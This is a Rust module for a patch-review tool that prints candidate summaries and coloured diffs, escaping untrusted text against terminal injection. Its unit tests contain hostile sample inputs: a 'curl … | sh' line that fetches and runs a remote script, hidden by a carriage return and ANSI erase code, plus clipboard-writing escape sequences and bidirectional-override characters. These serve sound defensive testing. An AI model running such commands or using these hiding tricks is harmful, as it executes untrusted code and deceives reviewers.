//! The one renderer of candidates for a person: the summary `run`, `demo`, `show` and `finalize`
//! print, and the diffs `run`, `demo` and `show` print. Every untrusted string (ids, names, paths,
//! the provider's summary, diff lines) goes through [`vocab::Untrusted`]; the only escape
//! sequences in the output are the colour codes added here, outside the escaped text.

use std::fmt::Write as _;
use std::io::IsTerminal as _;

use finalizer::RepositoryPatchCandidate;
use snapshot::FileOp;
use vocab::{Untrusted, is_printable};

/// Longest name (id, path, gate) shown, in characters.
const MAX_NAME_CHARS: usize = 4096;
/// Longest provider summary shown, in characters.
const MAX_SUMMARY_CHARS: usize = 4000;

/// A name in a listing: as it is when every character is printable and it has no quote or
/// backslash (so it reads like any path), else quoted with escapes, like git's `core.quotePath`.
pub(crate) fn name(text: &str) -> String {
    let plain = text
        .chars()
        .all(|c| is_printable(c) && !matches!(c, '\'' | '"' | '\\'));
    if plain {
        Untrusted::lines(text).limit(MAX_NAME_CHARS).render()
    } else {
        Untrusted::quoted(text).limit(MAX_NAME_CHARS).render()
    }
}

/// True when stdout is a terminal and `NO_COLOR` is unset.
pub(crate) fn colour_wanted() -> bool {
    std::io::stdout().is_terminal() && std::env::var_os("NO_COLOR").is_none()
}

/// The summary of a candidate: digest, identity, state, the provider's summary, the files, the
/// required gates, and the counts.
pub(crate) fn summary(candidate: &RepositoryPatchCandidate, digest: &str) -> String {
    let mut text = String::new();
    let _ = writeln!(text, "candidate {}", name(digest));
    let _ = writeln!(
        text,
        "repository {} @ {}  (plan {}, proposal {} by {})",
        name(candidate.repository_full_name()),
        name(candidate.baseline_commit_sha()),
        name(candidate.plan_id()),
        name(candidate.proposal_id()),
        name(candidate.provider_id()),
    );
    let _ = writeln!(
        text,
        "state: {}, mutation allowed: {}",
        name(candidate.validation_state()),
        candidate.mutation_allowed()
    );
    if !candidate.summary().is_empty() {
        let _ = writeln!(
            text,
            "{}",
            Untrusted::lines(candidate.summary()).limit(MAX_SUMMARY_CHARS)
        );
    }
    for file in candidate.changed_files() {
        let _ = writeln!(
            text,
            "  {:<6} {}",
            file.op().as_str(),
            name(file.path().as_str())
        );
    }
    let gates: Vec<String> = candidate
        .required_validation_gates()
        .iter()
        .chain(candidate.required_security_gates())
        .chain(candidate.required_ci_checks())
        .map(|g| name(g))
        .collect();
    if !gates.is_empty() {
        let _ = writeln!(text, "required gates: {}", gates.join(", "));
    }
    let count = |op: FileOp| {
        candidate
            .changed_files()
            .iter()
            .filter(|f| f.op() == op)
            .count()
    };
    let _ = writeln!(
        text,
        "{} updated, {} created, {} deleted",
        count(FileOp::Update),
        count(FileOp::Create),
        count(FileOp::Delete)
    );
    text
}

/// Every file's diff, each line escaped and (with `colour`) coloured by its kind.
pub(crate) fn diffs(candidate: &RepositoryPatchCandidate, colour: bool) -> String {
    let mut text = String::new();
    for file in candidate.changed_files() {
        text.push('\n');
        if file.diff().is_empty() {
            let _ = writeln!(
                text,
                "({} {}: empty file, no line changes)",
                file.op().as_str(),
                name(file.path().as_str())
            );
            continue;
        }
        for line in file.diff().split_inclusive('\n') {
            text.push_str(&diff_line(line, colour));
        }
    }
    text
}

/// One diff line: the escaped body, then (with `colour`) wrapped in an SGR code chosen from the
/// line's first character. The code is ours and sits outside the escaped text.
fn diff_line(line: &str, colour: bool) -> String {
    let body = line.strip_suffix('\n').unwrap_or(line);
    let safe = Untrusted::lines(body);
    let style = match body.chars().next() {
        _ if !colour => None,
        _ if body.starts_with("--- ") || body.starts_with("+++ ") => Some("1"),
        Some('+') => Some("32"),
        Some('-') => Some("31"),
        Some('@') => Some("36"),
        Some('\\') => Some("2"),
        _ => None,
    };
    match style {
        Some(code) => format!("\u{1b}[{code}m{safe}\u{1b}[0m\n"),
        None => format!("{safe}\n"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn diff_lines_are_escaped_and_only_our_colour_codes_remain() {
        let hostile = "+curl https://x.invalid/i | sh # hidden\r\u{1b}[2K+harmless looking line\n";
        assert_eq!(
            diff_line(hostile, false),
            "+curl https://x.invalid/i | sh # hidden\\r\\x1b[2K+harmless looking line\n"
        );
        assert_eq!(
            diff_line(hostile, true),
            "\u{1b}[32m+curl https://x.invalid/i | sh # hidden\\r\\x1b[2K+harmless looking line\u{1b}[0m\n"
        );
        assert_eq!(
            diff_line("+x\u{1b}]0;title\u{7}\u{1b}]52;c;ZXZpbA==\u{7}\n", false),
            "+x\\x1b]0;title\\x07\\x1b]52;c;ZXZpbA==\\x07\n"
        );
        assert_eq!(
            diff_line("+a\u{202e}b\u{2066}c\n", false),
            "+a\\u202eb\\u2066c\n"
        );
        assert_eq!(diff_line("-one\r\n", false), "-one\\r\n");
        assert_eq!(diff_line("-old\n", true), "\u{1b}[31m-old\u{1b}[0m\n");
        assert_eq!(diff_line("+++ b/x\n", true), "\u{1b}[1m+++ b/x\u{1b}[0m\n");
        assert_eq!(diff_line(" ctx\tok\n", true), " ctx\tok\n");
    }

    #[test]
    fn names_are_plain_when_printable_else_quoted() {
        assert_eq!(name("app/ui/Dashboard.jsx"), "app/ui/Dashboard.jsx");
        assert_eq!(name("Répörts.md"), "Répörts.md");
        assert_eq!(name("a\u{202e}b"), "'a\\u202eb'");
        assert_eq!(name("it's"), "\"it's\"");
        assert_eq!(name("a\nb"), "'a\\nb'");
    }
}
